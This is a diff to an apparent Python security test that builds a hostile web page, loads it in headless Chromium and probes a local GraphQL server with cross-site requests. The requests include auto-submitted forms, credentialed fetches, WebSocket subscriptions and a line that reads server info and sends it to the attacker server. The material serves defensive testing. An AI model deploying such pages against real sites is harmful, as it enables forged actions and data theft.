@@ -98,12 +98,17 @@ def hostile_page(target: Server, attacker: Attacker) -> str:
         {"query": LIMIT % 5},
     ]
     base = f"http://127.0.0.1:{target.port}"
-    asked = [
+    launch, limit = (
         urlencode({"query": post["query"], "variables": json.dumps(post.get("variables", {}))})
         for post in posts
+    )
+    gets = [f"{base}{path}?{limit}" for path in SPELLINGS]
+    parts = [
+        "<!doctype html><title>kittens</title><h1>kittens</h1>",
+        _sent_by_script(base, gets, posts),
+        # One way is enough for what starts a process each time.
+        *(f'<img src="{escape(f"{base}{path}?{launch}", quote=True)}">' for path in SPELLINGS),
     ]
-    gets = [f"{base}{path}?{query}" for path in SPELLINGS for query in asked]
-    parts = ["<!doctype html><title>kittens</title><h1>kittens</h1>"]
     for number, address in enumerate(gets):
         url = escape(address, quote=True)
         parts += [
@@ -133,13 +138,24 @@ def hostile_page(target: Server, attacker: Attacker) -> str:
     parts += forms
     parts.append(
         f"""<script>
+document.querySelectorAll("form").forEach(form => form.submit());
+{json.dumps(gets)}.forEach(get => window.open(get + "&n=12"));
+fetch("/done");
+</script>"""
+    )
+    return "".join(parts)
+
+
+def _sent_by_script(base: str, gets: list[str], posts: list[dict[str, object]]) -> str:
+    return f"""<script>
 const gets = {json.dumps(gets)}, posts = {json.dumps(posts)}.map(JSON.stringify);
 const url = {json.dumps(base + "/graphql")}, quiet = () => {{}};
-for (const get of gets) {{
-  fetch(get + "&n=9", {{mode: "no-cors", credentials: "include"}}).catch(quiet);
-  fetch(get + "&n=10", {{method: "HEAD", mode: "no-cors"}}).catch(quiet);
-  new EventSource(get + "&n=11");
-}}
+const socket = new WebSocket(url.replace("http", "ws"), "graphql-ws");
+socket.onopen = () => posts.forEach((post, n) => {{
+  fetch("/socket-open");
+  socket.send(JSON.stringify({{type: "connection_init"}}));
+  socket.send(JSON.stringify({{type: "start", id: "" + n, payload: JSON.parse(post)}}));
+}});
 for (const post of posts) {{
   for (const type of ["text/plain", "text/plain; application/json", "application/json",
                       "application/graphql", "multipart/form-data; x=application/json"]) {{
@@ -151,20 +167,13 @@ for (const post of posts) {{
   for (const query of [post, {json.dumps(quote(LIMIT % 5))}])
     fetch(url + "?query=" + query, {{method: "POST", mode: "no-cors"}}).catch(quiet);
 }}
-const socket = new WebSocket(url.replace("http", "ws"), "graphql-ws");
-socket.onopen = () => posts.forEach((post, n) => {{
-  socket.send(JSON.stringify({{type: "connection_init"}}));
-  socket.send(JSON.stringify({{type: "start", id: "" + n, payload: JSON.parse(post)}}));
-  fetch("/socket-open");
-}});
-document.querySelectorAll("form").forEach(form => form.submit());
-gets.forEach(get => window.open(get + "&n=12"));
 fetch({json.dumps(base + "/server_info")}).then(a => a.text())
   .then(text => fetch("/read?" + text)).catch(quiet);
-fetch("/done");
+for (const get of gets) {{
+  fetch(get + "&n=9", {{mode: "no-cors", credentials: "include"}}).catch(quiet);
+  fetch(get + "&n=10", {{method: "HEAD", mode: "no-cors"}}).catch(quiet);
+}}
 </script>"""
-    )
-    return "".join(parts)
 
 
 @contextmanager
@@ -185,7 +194,10 @@ def visited(folder: Path, module: str) -> Iterator[tuple[Server, Attacker]]:
             browser = playwright.chromium.launch(executable_path=found, args=ARGUMENTS)
             page = browser.new_page()
             page.goto(f"http://localhost:{attacker.port}/page", wait_until="commit")
-            page.wait_for_timeout(20_000)
+            deadline_s = time.monotonic() + 90
+            while "/done None" not in attacker.got and time.monotonic() < deadline_s:
+                page.wait_for_timeout(500)
+            page.wait_for_timeout(8_000)
             # The way out that is left: the browser itself is led there.
             for address in (
                 f"/graphql?query={quote(LIMIT % 5)}",
